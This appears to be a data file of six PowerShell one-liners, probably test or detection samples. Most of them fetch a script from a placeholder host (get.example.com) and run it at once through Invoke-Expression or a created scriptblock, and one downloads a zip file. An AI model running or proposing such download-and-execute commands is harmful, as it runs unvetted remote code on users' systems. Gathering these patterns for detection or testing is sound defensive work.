iwr -useb https://get.example.com/i.ps1 | iex
irm https://get.example.com/i.ps1 | iex
iex ((New-Object System.Net.WebClient).DownloadString('https://get.example.com/i.ps1'))
Invoke-Expression (Invoke-RestMethod https://get.example.com/i.ps1)
Invoke-WebRequest https://get.example.com/a.zip -OutFile a.zip
& ([scriptblock]::Create((iwr https://get.example.com/i.ps1)))
